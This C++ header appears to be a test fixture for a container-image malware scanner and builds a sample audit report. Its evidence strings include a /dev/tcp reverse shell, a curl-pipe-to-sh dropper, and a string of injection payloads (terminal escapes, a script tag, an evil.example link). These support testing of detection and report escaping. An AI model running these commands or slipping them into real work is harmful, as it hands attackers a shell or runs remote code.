// A report made by hand, with what is hard to write down in it: attacker text everywhere, several platforms, nested and deleted places.
#pragma once

#include <string>

#include "audit/report.h"

namespace lazaret::report {

inline const std::string hostile = "\x1b[2J\u202e<script>alert(1)</script>`|[x](http://evil.example)\n@everyone\xff&amp;";

inline std::string fake_digest(char digit) { return "sha256:" + std::string(64, digit); }

inline audit::Finding sample_finding(std::string rule, detect::Category category, detect::Severity severity, std::string path, std::string evidence, int weight) {
  audit::Finding finding;
  finding.id = "0123456789abcdef";
  finding.rule = std::move(rule);
  finding.category = category;
  finding.severity = severity;
  finding.confidence = detect::Confidence::high;
  finding.title = "Shell over the network";
  finding.explanation = "Whoever listens at the other end types commands into this container, and what stands here is long enough to need a second line on a terminal.";
  finding.remediation = "Do not run the image.";
  finding.doubt = "It would be harmless if nothing runs it.";
  finding.attack = {"T1059.004", "T1095"};
  finding.location.layer = fake_digest('b');
  finding.location.path = std::move(path);
  finding.location.line = 3;
  finding.location.in_final_rootfs = true;
  finding.evidence = std::move(evidence);
  finding.weight = weight;
  finding.reason = "critical, high confidence, started by the image";
  return finding;
}

inline audit::Report sample_report() {
  using detect::Category;
  using detect::Severity;
  audit::Report report;
  report.target = "docker.io/alice/tomcat:latest";
  report.verdict = audit::Verdict::malicious;
  report.score = 100;
  report.reasons = {"Shell over the network (critical, high confidence, started by the image)", "A second reason"};
  report.image_digest = fake_digest('a');
  report.image_media_type = "application/vnd.oci.image.manifest.v1+json";
  report.manifests = {{fake_digest('a'), "linux/amd64", fake_digest('c'), {{fake_digest('d'), fake_digest('e'), "application/vnd.oci.image.layer.v1.tar+gzip", "ADD file:1 in /", 1000},
                                                                            {fake_digest('f'), fake_digest('b'), "application/vnd.oci.image.layer.v1.tar+gzip", "COPY run.sh /", 2000}}}};
  report.indicators = {{"c2", "203.0.113.7:4444", true}, {"url", "http://203.0.113.9/x", false}};
  audit::Finding shell = sample_finding("reverse-shell.dev-tcp", Category::reverse_shell, Severity::critical, "/run.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", 100);
  shell.chain = {"config.Entrypoint", "/run.sh:3"};
  shell.indicators = {0};
  report.findings.push_back(shell);
  for (int i = 0; i < 6; ++i) {
    audit::Finding fetch = sample_finding("dropper.fetch", Category::dropper, Severity::high, "/opt/" + std::to_string(i) + ".sh", "curl http://203.0.113.9/x | sh", 60);
    fetch.title = "Fetches and runs";
    fetch.indicators = {1};
    if (i == 0) fetch.chain = {"base64"};
    if (i == 1) fetch.location.nested = {"payload.tar.gz", "x/y.sh"};
    if (i == 2) fetch.location.in_final_rootfs = false;
    report.findings.push_back(fetch);
  }
  audit::Finding config = sample_finding("miner.command-line", Category::miner, Severity::medium, "config.Cmd", hostile, 20);
  config.title = "Command line of a miner";
  config.location.layer.clear();
  config.location.line = 0;
  report.findings.push_back(config);
  audit::Finding silent = sample_finding("anomaly.malformed", Category::anomaly, Severity::low, "/usr/share/" + hostile, "", 0);
  silent.title = "Malformed content";
  silent.reason = "low, in an unmodified file of a package";
  report.findings.push_back(silent);
  report.bytes = 123456789;
  report.files = 4711;
  report.incomplete = {{fake_digest('b'), "/opt/secret.zip", 1000, "encrypted"}, {"", hostile, 0, "a reason"}};
  report.engine_version = "0.0.0";
  report.ruleset = fake_digest('9');
  return report;
}

}  // namespace lazaret::report
